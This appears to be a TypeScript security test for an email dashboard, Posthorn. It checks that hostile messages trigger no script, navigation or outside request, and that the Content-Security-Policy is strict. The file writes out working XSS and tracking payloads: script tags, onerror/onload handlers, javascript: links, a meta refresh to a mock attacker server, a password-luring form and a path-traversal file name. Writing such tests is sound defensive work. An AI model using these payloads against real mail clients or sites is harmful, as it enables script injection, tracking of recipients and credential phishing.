/** Hostile mail in the dashboard: it runs no script, does not navigate, and makes no request to another server. */
import assert from "node:assert/strict";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { after, before, test } from "node:test";
import type { Browser } from "playwright-core";
import { follow, openBrowser, openTab, settled, type Tab, withoutBrowser } from "../harness/browser.ts";
import { deliverInbound, type InboundTestbed, startInboundTestbed } from "../harness/inbound.ts";
import { accepted, untilFinished } from "../harness/sending.ts";
import { until } from "../harness/wait.ts";

let testbed: InboundTestbed;
let browser: Browser;
let tab: Tab;
let tracker: Server;
let trackerUrl: string;
/** The requests that the attacker's server received. */
const tracked: string[] = [];
const dialogs: string[] = [];
let emailId: string;
let inboundId: string;

const script = "<script>globalThis.hacked = 1; alert('hacked')</script>";
const subject = `${script}<img src=x onerror="globalThis.hacked=2"> \u202egnp.exe ${"W".repeat(300)}`;

before(async () => {
  if (withoutBrowser) return;
  tracker = createServer((request, response) => {
    tracked.push(request.url!);
    response.setHeader("content-type", "image/png");
    response.end(Buffer.from(onePixel, "base64"));
  }).listen(0, "127.0.0.1");
  await until("the attacker's server", () => tracker.listening);
  trackerUrl = `http://127.0.0.1:${(tracker.address() as AddressInfo).port}`;
  testbed = await startInboundTestbed({ env: { POSTHORN_DELIVERY: "capture" } });
  const html = hostileHtml();
  emailId = await accepted(testbed, {
    from: '"<b onclick=alert(1)>Boss</b>" <news@sender.test>',
    subject,
    html,
    body: `${script} plain`,
    metadata: { "<i>key</i>": `${script}` },
    attachments: [{ filename: "../<b>invoice.html", contentType: "text/html", base64Content: btoa(script) }],
  });
  await untilFinished(testbed, emailId);
  const raw = [
    `From: "<img src=x onerror=alert(1)> =?utf-8?q?Mallory?=" <mallory@there.test>`,
    `Subject: ${script} hello`,
    "Message-ID: <hostile@there.test>",
    "MIME-Version: 1.0",
    "Content-Type: text/html; charset=utf-8",
    "",
    html,
    "",
  ];
  await deliverInbound(testbed, { to: "news@sender.test", raw: raw.join("\r\n") });
  inboundId = await until("the inbound message", async () => {
    const { body } = await testbed.call("InboundService/ListInbound", {});
    return (body.data as { id: string }[])[0]?.id;
  });
  browser = await openBrowser();
  tab = await openTab(browser, testbed.program.url, { key: testbed.program.key });
  tab.page.on("dialog", (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
});
after(async () => {
  await browser?.close();
  await testbed?.stop();
  tracker?.close();
});

function hostileHtml(): string {
  return `<html><head>
    <meta http-equiv="refresh" content="0;url=${trackerUrl}/refresh"><base href="${trackerUrl}/base/" target="_top">
    <link rel="stylesheet" href="${trackerUrl}/sheet.css"><link rel="prefetch" href="${trackerUrl}/prefetch">
    <link rel="dns-prefetch" href="//dns.attacker.test"><style>@import url("${trackerUrl}/import.css"); h1 { background: url(${trackerUrl}/style.png) }</style>
    ${script}<script src="${trackerUrl}/script.js"></script></head>
    <body onload="parent.hacked = 3" background="${trackerUrl}/background.png"><h1>Hostile heading</h1>
    <img src="${trackerUrl}/pixel.png" onerror="parent.hacked = 4" onload="parent.hacked = 5"><img src="x" onerror="top.hacked = 6">
    <svg onload="parent.hacked = 7"><image href="${trackerUrl}/svg.png"/><script>parent.hacked = 8</script></svg>
    <iframe src="${trackerUrl}/frame" srcdoc="<script>top.hacked = 9</script>"></iframe><object data="${trackerUrl}/object"></object><embed src="${trackerUrl}/embed">
    <form action="${trackerUrl}/form"><input name="password" autofocus onfocus="parent.hacked = 10"><button>Sign in</button></form>
    <a id="lure" href="javascript:parent.hacked = 11" target="_top">script link</a> <a id="away" href="${trackerUrl}/away" target="_top" ping="${trackerUrl}/ping">away</a>
    <video src="${trackerUrl}/video" autoplay></video><div style="position:fixed;inset:0;background:url(${trackerUrl}/inline.png)">over everything</div>
    </body></html>`;
}

async function assertUntouched(where: string): Promise<void> {
  assert.equal(await tab.page.evaluate("globalThis.hacked"), undefined, where);
  assert.deepEqual(dialogs, [], where);
  assert.ok(tab.page.url().startsWith(testbed.program.url), `${where}: ${tab.page.url()}`);
}

test("subjects, senders, metadata and file names are shown as text", { skip: withoutBrowser }, async () => {
  const { page } = tab;
  await page.goto("/");
  for (const [path, shown] of [
    ["/", /Needs your attention/],
    ["/emails", /globalThis\.hacked/],
    ["/events", /Mallory/],
    ["/inbound", /hello/],
  ] as const) {
    await follow(page, path);
    await settled(page, shown);
    assert.equal(await page.evaluate("document.documentElement.scrollWidth - innerWidth <= 0"), true, `${path} fits`);
    await assertUntouched(path);
  }
  await page.goto(`/emails/${emailId}`);
  await settled(page, /Boss[\s\S]*<i>key<\/i>/);
  await page.getByRole("tab", { name: "Attachments (1)" }).click();
  await page.getByRole("list", { name: "Attachments" }).getByText("<b>invoice.html").waitFor();
  const [file] = await Promise.all([
    page.waitForEvent("download"),
    page.getByRole("button", { name: /^Download .*invoice/ }).click(),
  ]);
  assert.doesNotMatch(file.suggestedFilename(), /[/\\<>]/, "a file name is not a path");
  await assertUntouched("the email");
});

for (const [what, open] of [
  ["an email", async () => await tab.page.goto(`/emails/${emailId}`)],
  [
    "an inbound message",
    async () => {
      await tab.page.goto(`/inbound/${inboundId}`);
      await tab.page.getByRole("tab", { name: "HTML" }).click();
    },
  ],
] as const) {
  test(`the HTML of ${what} runs no script and makes no request`, { skip: withoutBrowser }, async () => {
    const { page } = tab;
    tracked.length = 0;
    await open();
    const frame = page.frameLocator("iframe.preview");
    await frame.getByRole("heading", { name: "Hostile heading" }).waitFor();
    for (const id of ["lure", "away"]) await frame.locator(`#${id}`).dispatchEvent("click");
    await frame.getByRole("heading", { name: "Hostile heading" }).waitFor();
    await assertUntouched(what);
    assert.equal(tracked.join(" "), "", "the sender cannot see that the mail was opened");

    await page.getByRole("button", { name: "Show remote images" }).click();
    await until("the remote images", () => tracked.includes("/pixel.png"));
    await frame.getByRole("heading", { name: "Hostile heading" }).waitFor();
    const other = tracked.filter((path) => !path.endsWith(".png"));
    assert.deepEqual(other, [], "only images are loaded");
    await assertUntouched(`${what} with images`);
  });
}

test("the dashboard and its preview have a strict Content-Security-Policy", { skip: withoutBrowser }, async () => {
  const policyOf = async (path: string) => {
    const response = await fetch(testbed.program.url + path);
    return response.headers.get("content-security-policy") ?? "";
  };
  for (const path of ["/", "/emails", "/keys"]) {
    const policy = await policyOf(path);
    assert.match(policy, /script-src 'self'(;|$)/);
    assert.match(policy, /frame-ancestors 'none'/);
    assert.doesNotMatch(policy, /script-src[^;]*unsafe/);
  }
  for (const path of ["/preview.html", "/preview-images.html"]) {
    const policy = await policyOf(path);
    assert.match(policy, /default-src 'none'/);
    assert.match(policy, /frame-ancestors 'self'/);
    assert.match(policy, /sandbox allow-same-origin$/, "no scripts");
    assert.doesNotMatch(policy, /script-src/);
  }
  assert.match(await policyOf("/preview.html"), /img-src data:;/);
});

const onePixel = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==";
